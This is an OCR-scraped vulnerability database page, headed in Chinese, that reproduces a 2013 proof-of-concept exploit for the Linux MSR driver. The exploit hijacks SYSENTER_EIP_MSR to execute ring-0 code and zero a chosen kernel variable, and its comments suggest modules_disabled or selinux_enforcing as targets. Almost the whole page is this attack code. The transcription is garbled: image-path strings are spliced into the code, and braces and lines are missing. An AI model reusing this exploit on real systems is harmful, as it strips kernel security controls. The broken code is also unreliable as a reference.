Linux Kernel MSR Driver Privilege Escalation

QQ空间 新浪微博 微信 QQ facebook twitter
漏洞ID 1044662 漏洞类型
发布时间2013-08-06 更新时间 2013-08-06
漏洞平台 N/A CVSS评分 N/A
// PoC exploit for /dev/cpu/*/msr, 32bit userland on a 64bit host
// can do whatever in the commented area, re-enable module support, etc
// requires CONFIG_X86_MSR and just uid 0
// a small race exists between the time when the MSR is written to the first
// time and when we issue our sysenter
// we additionally require CAP_SYS_NICE to make the race win nearly guaranteed
// configured to take a hex arg of a dword pointer to set to 0
// (modules_disabled, selinux_enforcing, take your pick)
// Hello to Red Hat, who has shown yet again to not care until a// public exploit is released.  Not even a bugtraq entry existed in
// their system until this was published -- and they have a paid team
// of how many?
// It's not as if I didn't mention the problem and existence of an easy
// exploit multiple times prior:
// spender 2013
#define _GNU_SOURCE
#include <stdio.h>
#include <sched.h>
#include <unistd.h>
#include <sys/types.h>
#include <sys/stat.h>
#include <fcntl.h>
#include <stdlib.h>
#include <sys/time.h>
#include <sys/resource.h>
#include <sys/mman.h>
#define SYSENTER_EIP_MSR 0x176
u_int64_t msr;
unsigned long ourstack[65536];
u_int64_t payload_data[16];
extern void *_ring0;
extern void *_ring0_end;
void ring0(void)
__asm volatile(".globl _ring0\n"".intel_syntax noprefix\n"
    // set up stack pointer with 'ourstack'
    "mov esp, ecx\n"
    // save registers, contains the original MSR value
    "push rax\n"
    "push rbx\n"
    "push rcx\n"
    "push rdx\n"
    // play with the kernel here with interrupts disabled!
    "mov rcx, qword ptr [rbx+8]\n""test rcx, rcx\n"
    "jz skip_write\n"
    "mov dword ptr [rcx], 0\n"
    // restore MSR value before returning
    "mov ecx, 0x176\n" // SYSENTER_EIP_MSR
    "mov eax, dword ptr [rbx]\n"
    "mov edx, dword ptr [rbx+4]\n"
    "pop rdx\n"
    "pop rcx\n"
    "pop rbx\n"
    "pop rax\n"
    ".att_syntax prefix\n"
        ".global _ring0_end\n"
unsigned long saved_stack;
int main(int argc, char *argv[])
    cpu_set_t set;
    int msr_fd;
    int ret;
    u_int64_t new_msr;
    struct sched_param sched;
    u_int64_t resolved_addr = 0ULL;
    if (argc == 2)
        resolved_addr = strtoull(argv[1], NULL, 16);
    /* can do this without privilege */
    mlock(_ring0, (unsigned long)_ring0_end - (unsigned long)_ring0);
    mlock(&payload_data, sizeof(payload_data));CPU_SET(0, &set);
    sched.sched_priority = 99;
    ret = sched_setscheduler(0, SCHED_FIFO, &sched);
    if (ret) {
        fprintf(stderr, "Unable to set priority.\n");
    ret = sched_setaffinity(0, sizeof(cpu_set_t), &set);
    if (ret) {
        fprintf(stderr, "Unable to set affinity.\n");
    msr_fd = open("/dev/cpu/0/msr", O_RDWR);
    if (msr_fd < 0) {
        msr_fd = open("/dev/msr0", O_RDWR);
        if (msr_fd < 0) {
            fprintf(stderr, "Unable to open /dev/cpu/0/msr\n");
    lseek(msr_fd, SYSENTER_EIP_MSR, SEEK_SET);
    ret = read(msr_fd, &msr, sizeof(msr));
    if (ret != sizeof(msr)) {
        fprintf(stderr, "Unable to read /dev/cpu/0/msr\n");// stuff some addresses in a buffer whose address we
    // pass to the "kernel" via register
    payload_data[0] = msr;
    payload_data[1] =resolved_addr;
    printf("Old SYSENTER_EIP_MSR = %016llx\n", msr);
    lseek(msr_fd, SYSENTER_EIP_MSR, SEEK_SET);
    new_msr = (u_int64_t)(unsigned long)&_ring0;
    printf("New SYSENTER_EIP_MSR = %016llx\n", new_msr);
    ret = write(msr_fd, &new_msr, sizeof(new_msr));
    if (ret != sizeof(new_msr)){
        fprintf(stderr, "Unable to modify /dev/cpu/0/msr\n");
    __asm volatile(
        ".intel_syntaxnoprefix\n"
        "mov saved_stack, esp\n"
        "lea ecx, ourstack\n"
        "lea edx, label2\n"
        "lea ebx, payload_data\n"
        "mov esp,saved_stack\n"
        ".att_syntax prefix\n"
    return 0;